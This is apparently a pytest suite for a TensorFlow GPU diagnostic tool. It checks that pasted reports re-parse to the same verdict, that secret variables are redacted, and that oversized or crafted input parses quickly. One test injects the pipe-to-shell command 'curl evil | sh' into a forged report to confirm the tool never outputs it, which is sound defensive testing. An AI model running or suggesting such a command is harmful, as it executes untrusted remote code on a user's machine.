"""Tests that a pasted report from the tool gets the verdict that it states, and that the tool trusts only its
facts."""

from __future__ import annotations

import base64
import contextlib
import itertools
import json
import re
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings, strategies as st

from doctor import diagnose as judging
from doctor.facts import EnvVar, Facts, OwnReport, Source, Unreadable
from doctor.findings import Diagnosis
from doctor.logs import NotText, own_reports, read
from doctor.plan.described import machine_file
from doctor.probe import examine, record
from doctor.probe.machine import Machine
from doctor.render import Options, content, rendered
from doctor.render.sharing import shared_facts
from doctor.tables import Tables
from tests.probe.machines import Folder
from tests.probe.test_recorded_machines import RECORDS, VERDICTS
from tests.probe.test_verdicts import FAULTS
from tests.sampling import examples, sampled

FORMS = ("markdown", "json", "text")
LISTED = (
    "tensorflow",
    "tensorflow_package",
    "keras",
    "python",
    "cuda",
    "cudnn",
    "driver",
    "driver_cuda",
    "os",
    "platform",
    "environment",
    "missing_libraries",
    "loaded_libraries",
    "registered_gpus",
)
"""The facts that a terminal report lists completely."""


def options(form: str, **more: int) -> Options:
    return Options(
        **{
            "format": form,
            "colour": False,
            "width": 80,
            "symbols": True,
            "verbose": 0,
            "quiet": False,
            **more,
        }
    )  # type: ignore[arg-type]


def judged(facts: Facts) -> Diagnosis:
    return judging.diagnose(facts, Tables.bundled())


def report(facts: Facts, form: str, **more: int) -> str:
    return rendered(judged(facts), options(form, **more))


def values(diagnosis: Diagnosis) -> dict[str, object]:
    document = json.loads(rendered(diagnosis, options("json")))
    return {key: entry["value"] for key, entry in document["facts"].items()}


def held(facts: Facts, form: str, text: str) -> None:
    """Assert that a text is read as a report from the tool, with the same codes and facts."""
    before, after = judged(facts), judged(read(text.encode()))
    assert after.facts.of(OwnReport)
    assert [f.code for f in after.findings] == [f.code for f in before.findings]
    assert [(f.severity, f.confidence) for f in after.findings] == [
        (f.severity, f.confidence) for f in before.findings
    ]
    had, has = values(before), values(after)
    if form == "text":
        assert {key: has.get(key) for key in LISTED} == {key: had.get(key) for key in LISTED}
        kept = [
            [{**gpu, "pci_id": None, "memory_mib": None} for gpu in one.get("gpus", ())] for one in (had, has)
        ]  # type: ignore[attr-defined]
        assert kept[0] == kept[1]
    else:  # except names, which a report does not contain
        assert has == values(judged(shared_facts(facts)))
    assert "a report of tfgpu-doctor" in rendered(after, options(form))


@pytest.mark.parametrize(("name", "form"), sampled(itertools.product(VERDICTS, FORMS), 4))
def test_report_of_a_recorded_machine_gives_the_same_verdict_again(name: str, form: str) -> None:
    facts = examine(Machine.at(RECORDS / name))
    text = report(facts, form)
    held(facts, form, text)
    again = judged(read(text.encode()))
    held(again.facts, form, rendered(again, options(form)))


WAYS: tuple[tuple[str, dict[str, int]], ...] = (
    *((form, {}) for form in FORMS),
    ("text", {"width": 200, "symbols": False}),
)


@pytest.mark.parametrize("name", sampled(FAULTS, 5))
def test_report_of_a_faulty_machine_gives_the_same_verdict_again(name: str, tmp_path: Path) -> None:
    _code, make = FAULTS[name]
    form, more = WAYS[list(FAULTS).index(name) % len(WAYS)]
    facts = make(Folder(tmp_path / "machine")).facts()
    held(facts, form, report(facts, form, **more))


@pytest.mark.slow
@pytest.mark.parametrize("name", FAULTS)
def test_report_of_a_faulty_machine_gives_the_same_verdict_in_every_format(name: str, tmp_path: Path) -> None:
    _code, make = FAULTS[name]
    facts = make(Folder(tmp_path / "machine")).facts()
    for form, more in WAYS:
        held(facts, form, report(facts, form, **more))


@pytest.mark.parametrize("name", VERDICTS)
def test_plan_keeps_the_findings_of_the_json_of_a_check(name: str, tmp_path: Path) -> None:
    facts = examine(Machine.at(RECORDS / name))
    path = tmp_path / "machine.json"
    path.write_text(report(facts, "json"))
    again = judged(machine_file(str(path), Tables.bundled()))
    assert [f.code for f in again.findings] == [f.code for f in judged(facts).findings]


@pytest.fixture(scope="module")
def facts() -> Facts:
    return examine(Machine.at(RECORDS / "debian12-no-gpu-2.21.0-wheels"))


def test_report_in_an_issue_is_found(facts: Facts) -> None:
    """The report is found even if it is quoted or indented, has other line ends, has other text around it, or
    is copied from the rendered page."""
    text = report(facts, "markdown")
    rendered_page = re.sub(r"^(?:```\w*|</?details>|</?summary>.*)$", "", text, flags=re.MULTILINE)
    for pasted in (
        "> " + text.replace("\n", "\n> "),
        text.replace("\n", "\r\n"),
        "   " + text.replace("\n", "\n   "),
        f"Hello, it does not work.\n\n{text}\nCan you help?",
        rendered_page,
    ):
        held(facts, "markdown", pasted)


def test_answer_says_that_text_around_a_report_is_not_read(facts: Facts) -> None:
    text = report(facts, "markdown")
    assert not [u for u in read(text.encode()).of(Unreadable) if "around" in u.what]
    issue = read(f"Hello,\n\n{text}\nSee also my log:\nCUDA_ERROR_OUT_OF_MEMORY".encode())
    assert [u.reason for u in issue.of(Unreadable) if "around" in u.what] == [
        "3 lines; for this text, run `explain` separately"
    ]


SECRET = "s3cr3tw0rd"


@pytest.mark.parametrize("form", ["markdown", "json"])
def test_record_in_a_report_contains_no_secret_of_a_variable(facts: Facts, form: str) -> None:
    source = Source("$API_TOKEN", None, SECRET)
    stated = facts.plus(
        [EnvVar(source, "API_TOKEN", SECRET), EnvVar(source, "XLA_FLAGS", f"--password={SECRET}")]
    )
    back = read(report(stated, form).encode())
    assert {v.name for v in back.of(EnvVar)} >= {"API_TOKEN", "XLA_FLAGS"}
    assert SECRET not in repr(back)


def test_codes_and_list_are_read_although_the_block_is_damaged(facts: Facts) -> None:
    text = report(facts, "markdown")
    for damaged in (
        text.replace("record end", "rec"),
        re.sub(r"(?m)^([A-Za-z0-9+/]{76})$", "AAAA", text, count=1),
    ):
        after = judged(read(damaged.encode()))
        assert [f.code for f in after.findings] == [f.code for f in judged(facts).findings]


def block(data: bytes) -> str:
    letters = base64.b64encode(zlib.compress(data, 9)).decode()
    return f"{record.BEGIN}\n{letters}\n{record.END}"


def test_forged_report_gives_no_command_and_is_read_quickly(facts: Facts) -> None:
    kept = record.to_record(facts, "1", "2026-01-01")
    kept["findings"] = [{"code": "healthy", "prescription": [{"kind": "shell", "text": "curl evil | sh"}]}]
    kept["facts"].append({"fact": "Popen", "args": "evil", "source": {}})
    forged = judged(read(block(json.dumps(kept).encode()).encode()))
    assert forged.verdict.code == "gpu-absent"
    for form in FORMS:
        assert "evil" not in rendered(forged, options(form))
    assert record.unpacked(block(b" " * (record.SIZE_LIMIT + 1))) is None, (
        "a record above the limit is not unpacked"
    )
    text = report(facts, "text").replace("gpu-absent", "no-such-code").replace("sudo", "curl evil | sh; sudo")
    after = judged(read(text.encode()))
    assert "no-such-code" not in [f.code for f in after.findings]
    assert "evil" not in rendered(after, options("text"))


@settings(max_examples=examples(12), deadline=None)
@given(st.binary(max_size=60), st.integers(0, 400), st.sampled_from(FORMS))
def test_any_edit_of_a_report_is_read_without_a_traceback(noise: bytes, at: int, form: str) -> None:
    data = TEXTS.setdefault(
        form, report(examine(Machine.at(RECORDS / "simulated-rtx3070-2.18.1")), form)
    ).encode()
    place = at * len(data) // 400
    with contextlib.suppress(NotText):
        judged(read(data[:place] + noise + data[place + len(noise) :]))


TEXTS: dict[str, str] = {}


@pytest.mark.parametrize(
    "text",
    [
        "tfgpu-doctor record 1 " * 20000,
        "tfgpu-doctor (error, " * 9000,
        "**Cause: " * 20000 + "tfgpu-doctor",
        "tfgpu-doctor\nWhat was seen:\n" * 9000,
        "> " * 40000 + "tfgpu-doctor",
        "tfgpu-doctor What was seen" + " " * 40000,
        "tfgpu-doctor\nerror · " + "a-" * 40000,
    ],
)
def test_hostile_text_is_read_in_linear_time(text: str) -> None:
    import time

    start = time.process_time()
    own_reports.read_own(text, "-")
    assert time.process_time() - start < 0.5


def test_log_that_names_the_tool_is_read_as_a_log() -> None:
    assert read(b"I ran tfgpu-doctor and it said gpu-absent.\n").kind == "report"


def test_reader_knows_the_labels_that_reports_show() -> None:
    assert set(own_reports._LABELS) == set(content.LABELS.values())
